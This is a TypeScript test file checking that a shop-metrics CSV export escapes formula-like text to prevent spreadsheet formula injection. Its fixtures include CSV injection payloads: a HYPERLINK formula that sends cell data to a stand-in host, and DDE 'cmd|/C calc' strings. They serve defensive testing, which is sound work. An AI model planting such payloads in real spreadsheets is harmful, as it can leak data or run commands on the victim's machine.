// CSV exports never hand a spreadsheet a formula: a text cell that begins with = + - @, a tab or a carriage
// return gets a leading ' (OWASP's CSV-injection advice); numbers stay numbers; everything else is unchanged.
// Expected outputs are written out by hand.
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Express } from 'express';
import { createApp } from '../server/api/app.js';
import { escapeCsvText, flaggedCsv } from '../server/api/csv.js';
import type { ShopMetrics } from '../server/contracts/metrics.js';
import type { Database } from '../server/db/database.js';
import { HEADERS, ingest, writeCsv } from './helpers.js';
import { SECRET, buildSmallWorld, makeTokens } from './fixtures/small-world.js';

const HEADER =
  'shop_id,shop_name,category_id,date,window_from,orders,interventions,complaints,rate,category_mean,ratio,judged,flagged,level,consecutive_flagged_days,restrictions,policy_version';

/** A row of the flagged list with only what the CSV writes; each test overrides the text it is about. */
function row(over: Partial<ShopMetrics>): ShopMetrics {
  return {
    shopId: 'A',
    shopName: 'A店',
    categoryId: 'C1',
    date: '2026-10-08',
    window: { from: '2026-09-09', to: '2026-10-08' },
    orders: 60,
    interventions: 3,
    complaints: 1,
    rate: 0.05,
    categoryMean: 0.01,
    ratio: 5,
    judged: true,
    flagged: true,
    level: 'restricted',
    consecutiveFlaggedDays: 9,
    restrictions: [
      { code: 'remove_resource_slots', since: '2026-10-06' },
      { code: 'ban_resource_slots', since: '2026-10-06' },
    ],
    policyVersion: 'default-1',
    ...over,
  };
}

describe('escapeCsvText', () => {
  it('prefixes a quote to text that begins with = + - @ tab or CR, and leaves every other text alone', () => {
    expect(escapeCsvText('=1+1')).toBe("'=1+1");
    expect(escapeCsvText('+86 138')).toBe("'+86 138");
    expect(escapeCsvText('-2+3')).toBe("'-2+3");
    expect(escapeCsvText('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(escapeCsvText('\t=1+1')).toBe("'\t=1+1");
    expect(escapeCsvText('\r=1+1')).toBe("'\r=1+1");
    // Not at the start, or not one of the six: unchanged.
    expect(escapeCsvText('a=b')).toBe('a=b');
    expect(escapeCsvText(' =1')).toBe(' =1');
    expect(escapeCsvText('1-2')).toBe('1-2');
    expect(escapeCsvText('女装·旗舰店')).toBe('女装·旗舰店');
    expect(escapeCsvText("'already")).toBe("'already");
    expect(escapeCsvText('')).toBe('');
  });
});

describe('flaggedCsv', () => {
  it('escapes formula-like text in every text column (id, name, category, policy) and leaves numbers as numbers, written out by hand', () => {
    const csv = flaggedCsv([
      row({ shopName: '=HYPERLINK("http://evil.example/?q="&A1,"click")' }),
      row({
        shopId: '+B',
        shopName: '-1+2',
        categoryId: '@C2',
        orders: 0,
        interventions: 0,
        complaints: 0,
        rate: null,
        categoryMean: 0,
        ratio: null,
        judged: false,
        flagged: false,
        level: 'warning',
        consecutiveFlaggedDays: 0,
        restrictions: [],
        policyVersion: '=v2',
      }),
      row({ shopId: 'D', shopName: '\tcmd|/C calc', categoryId: 'C1' }),
      row({ shopId: 'E', shopName: '\r=1+1' }),
      row({ shopId: 'F', shopName: 'A店 = 好店, "真的"', restrictions: [] }),
      row({
        shopId: 'G',
        shopName: 'G店',
        orders: 1500,
        interventions: 0,
        complaints: 12,
        rate: 0,
        categoryMean: 0.0037,
        ratio: 13.5,
        consecutiveFlaggedDays: 14,
        restrictions: [],
      }),
    ]);
    expect(csv).toBe(
      '\ufeff' +
        `${HEADER}\n` +
        `A,"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,remove_resource_slots@2026-10-06 ban_resource_slots@2026-10-06,default-1\n` +
        `'+B,'-1+2,'@C2,2026-10-08,2026-09-09,0,0,0,,0,,,,warning,0,,'=v2\n` +
        `D,'\tcmd|/C calc,C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,remove_resource_slots@2026-10-06 ban_resource_slots@2026-10-06,default-1\n` +
        `E,"'\r=1+1",C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,remove_resource_slots@2026-10-06 ban_resource_slots@2026-10-06,default-1\n` +
        `F,"A店 = 好店, ""真的""",C1,2026-10-08,2026-09-09,60,3,1,0.05,0.01,5,1,1,restricted,9,,default-1\n` +
        // Numbers stay numbers: never quoted, never prefixed.
        `G,G店,C1,2026-10-08,2026-09-09,1500,0,12,0,0.0037,13.5,1,1,restricted,14,,default-1\n`,
    );
  });
});

describe('GET /api/flagged?format=csv', () => {
  let db: Database;
  let app: Express;
  let reviewer: string;

  beforeAll(async () => {
    const world = await buildSmallWorld();
    db = world.db;
    // The two restricted shops of the small world renamed by their sellers to formulas.
    writeCsv(world.dir, 'shops.csv', HEADERS.shops, [
      ['A', '=HYPERLINK("http://evil.example","点我")', 'C1'],
      ['B', 'B店', 'C1'],
      ['C', "@SUM(1+1)*cmd|' /C calc'!A0", 'C1'],
    ]);
    expect((await ingest(db, [`${world.dir}/shops.csv`])).exitCode).toBe(0);
    app = createApp({ db, secret: SECRET, authFailuresPerMinute: 1e6 });
    reviewer = (await makeTokens()).reviewer;
  });
  afterAll(async () => db?.close());

  it('downloads the names with a leading quote', async () => {
    const res = await request(app).get('/api/flagged?format=csv&date=2026-10-08').set('Authorization', `Bearer ${reviewer}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const lines = res.text
      .replace(/^\ufeff/, '')
      .trimEnd()
      .split('\n');
    expect(lines[0]).toBe(HEADER);
    const byShop = new Map(lines.slice(1).map((line) => [line.split(',')[0], line]));
    expect([...byShop.keys()].sort()).toEqual(['A', 'C']);
    expect(byShop.get('A')!.startsWith(`A,"'=HYPERLINK(""http://evil.example"",""点我"")",C1,2026-10-08,2026-09-09,60,3,0,`)).toBe(true);
    expect(byShop.get('C')!.startsWith(`C,'@SUM(1+1)*cmd|' /C calc'!A0,C1,2026-10-08,2026-09-09,60,3,0,`)).toBe(true);
  });
});
